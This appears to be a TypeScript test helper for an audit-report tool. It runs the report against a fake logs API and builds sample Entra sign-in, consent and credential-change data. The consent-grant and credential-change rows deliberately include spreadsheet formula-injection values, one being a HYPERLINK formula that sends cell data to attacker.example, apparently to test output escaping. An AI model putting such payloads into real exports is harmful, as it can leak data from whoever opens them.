/**
 * Runs `npm run audit-report` in-process against the fake Logs API with a fixed clock and an
 * injected credential, in a fresh directory holding a synthesized stack and its outputs; and the
 * fixed sample data the docs page shows (docs/dashboards.md), so that the sample there is generated,
 * not written by hand.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { main } from '../../../../scripts/lib/audit-report/main';
import { outputsJson, synthJson, WORKSPACE_GUID } from '../../verify/support/harness';
import type { FakeLogs, KpiAnswer } from './fake-logs';

export { WORKSPACE_GUID };
/** The stack the sample report is about. */
export const STACK = 'contoso-prod';
export const TENANT = '7f1c2d3e-0000-4000-8000-0000000000aa';
/** The fixed clock of every run: the window ends here. */
export const NOW = new Date('2026-11-23T08:00:00.000Z');
export const FAKE_TOKEN = 'fake-report-token-0123456789abcdef';

export interface Workspace {
  readonly dir: string;
  readonly outputsFile: string;
}

const dirs: string[] = [];

/** A fresh directory with cdktf.out/stacks/<stack>/cdk.tf.json routing `categories` to Log Analytics, and outputs.json. */
export function makeWorkspace(categories: readonly string[] = ['AuditLogs', 'SignInLogs']): Workspace {
  const dir = mkdtempSync(join(tmpdir(), 'audit-report-'));
  dirs.push(dir);
  mkdirSync(join(dir, 'cdktf.out', 'stacks', STACK), { recursive: true });
  writeFileSync(join(dir, 'cdktf.out', 'stacks', STACK, 'cdk.tf.json'), JSON.stringify(synthJson(categories)));
  const outputsFile = join(dir, 'outputs.json');
  writeFileSync(outputsFile, JSON.stringify(outputsJson(TENANT)));
  return { dir, outputsFile };
}

export function removeWorkspaces(): void {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
}

export interface Run {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
  readonly sleeps: number[];
  readonly out: string;
}

export async function runReport(fake: FakeLogs, ws: Workspace, options: { args?: string[]; ca: string; requestTimeoutMs?: number; maxResponseBytes?: number; env?: Record<string, string> }): Promise<Run> {
  let stdout = '';
  let stderr = '';
  const sleeps: number[] = [];
  let now = NOW.getTime();
  const out = join(ws.dir, 'report');
  const args = ['--stack', STACK, '--cdktf-out', join(ws.dir, 'cdktf.out'), '--outputs', ws.outputsFile, '--logs-endpoint', `${fake.origin}/v1`, '--out', out, ...(options.args ?? [])];
  const code = await main(args, {
    env: options.env ?? {},
    cwd: ws.dir,
    stdout: (t) => (stdout += t),
    stderr: (t) => (stderr += t),
    readFile: (f) => readFile(f, 'utf8'),
    exec: async () => {
      throw new Error('terraform must not run in tests');
    },
    now: () => new Date(now),
    sleep: async (ms) => {
      sleeps.push(ms);
      now += ms;
    },
    random: () => 0.5,
    credential: { getToken: async () => ({ token: FAKE_TOKEN, expiresOnTimestamp: Date.now() + 3_600_000 }) },
    ca: options.ca,
    requestTimeoutMs: options.requestTimeoutMs,
    maxResponseBytes: options.maxResponseBytes,
  });
  return { code, stdout, stderr, sleeps, out };
}

const day = (i: number): string => new Date(Date.UTC(2026, 9, 24 + i)).toISOString();

/** The sample tenant's answers: 31 days of sign-ins, failures from a few countries, privileged changes, hostile names included. */
export function sampleAnswers(): Record<string, KpiAnswer> {
  const signIns = Array.from({ length: 31 }, (_, i) => {
    const total = 1800 + ((i * 37) % 240) - (i % 7 >= 5 ? 900 : 0);
    const failed = 30 + ((i * 13) % 45) + (i === 17 ? 260 : 0);
    return [day(i), total, total - failed, failed, Math.round((10_000 * (total - failed)) / total) / 100];
  });
  return {
    'sign-in-success-rate': {
      kind: 'table',
      columns: [{ name: 'Day', type: 'datetime' }, { name: 'SignIns', type: 'long' }, { name: 'Succeeded', type: 'long' }, { name: 'Failed', type: 'long' }, { name: 'SuccessRatePercent', type: 'real' }],
      rows: signIns,
    },
    'failed-sign-ins-by-country': {
      kind: 'table',
      columns: [{ name: 'Country', type: 'string' }, { name: 'FailedSignIns', type: 'long' }, { name: 'Accounts', type: 'long' }],
      rows: [['DE', 812], ['US', 344], ['NL', 121], ['BR', 97], ['CN', 61], ['(unknown)', 40], ['RU', 33], ['FR', 12]].map(([c, n]) => [c, n, Math.max(1, Math.round((n as number) / 9))]),
    },
    'top-privileged-actions': {
      kind: 'table',
      columns: [{ name: 'Kind', type: 'string' }, { name: 'Activity', type: 'string' }, { name: 'Actor', type: 'string' }, { name: 'Actions', type: 'long' }, { name: 'Failed', type: 'long' }, { name: 'LastSeen', type: 'datetime' }],
      rows: [
        ['Role assignment', 'Add eligible member to role', 'MS-PIM', 41, 0, '2026-11-22T16:03:11Z'],
        ['Role assignment', 'Add member to role', 'zoë.ångström@contoso.example', 9, 1, '2026-11-21T09:12:40Z'],
        ['Credential change', 'Update application - Certificates and secrets management', 'ci-deployer', 7, 0, '2026-11-20T22:45:00Z'],
        ['Consent grant', 'Consent to application', 'alex@contoso.example', 4, 0, '2026-11-19T13:30:02Z'],
        ['Credential change', 'Add service principal credentials', 'alex@contoso.example', 2, 0, '2026-11-18T10:01:55Z'],
        ['Role assignment', 'Remove member from role', 'MS-PIM', 2, 0, '2026-11-15T08:20:19Z'],
      ],
    },
    'consent-grants': {
      kind: 'table',
      columns: [{ name: 'TimeGenerated', type: 'datetime' }, { name: 'Activity', type: 'string' }, { name: 'Actor', type: 'string' }, { name: 'Application', type: 'string' }, { name: 'Result', type: 'string' }],
      rows: [
        ['2026-11-19T13:30:02Z', 'Consent to application', 'alex@contoso.example', 'Payroll, "EU" edition', 'success'],
        ['2026-11-12T07:41:20Z', 'Add delegated permission grant', 'alex@contoso.example', '=HYPERLINK("https://attacker.example/?d="&A1,"Open")', 'success'],
        ['2026-11-03T18:02:47Z', 'Add app role assignment to service principal', 'ci-deployer', '@SUM(1+1)', 'failure'],
        ['2026-10-30T11:15:00Z', 'Consent to application', 'zoë.ångström@contoso.example', 'Contoso <Expenses> | *beta*', 'success'],
      ],
    },
    'credential-changes': {
      kind: 'table',
      columns: [{ name: 'TimeGenerated', type: 'datetime' }, { name: 'Activity', type: 'string' }, { name: 'Actor', type: 'string' }, { name: 'Target', type: 'string' }, { name: 'Result', type: 'string' }],
      rows: [
        ['2026-11-20T22:45:00Z', 'Update application - Certificates and secrets management', 'ci-deployer', 'entra-audit-reader', 'success'],
        ['2026-11-18T10:01:55Z', 'Add service principal credentials', 'alex@contoso.example', '-2+3', 'success'],
      ],
    },
    'risky-users': {
      kind: 'table',
      columns: [{ name: 'UserPrincipalName', type: 'string' }, { name: 'RiskLevel', type: 'string' }, { name: 'RiskState', type: 'string' }, { name: 'RiskDetail', type: 'string' }, { name: 'LastUpdated', type: 'datetime' }],
      rows: [
        ['kim@contoso.example', 'high', 'atRisk', 'none', '2026-11-22T19:44:03Z'],
        ['sam@contoso.example', 'medium', 'confirmedCompromised', 'adminConfirmedUserCompromised', '2026-11-09T12:00:41Z'],
      ],
    },
  };
}
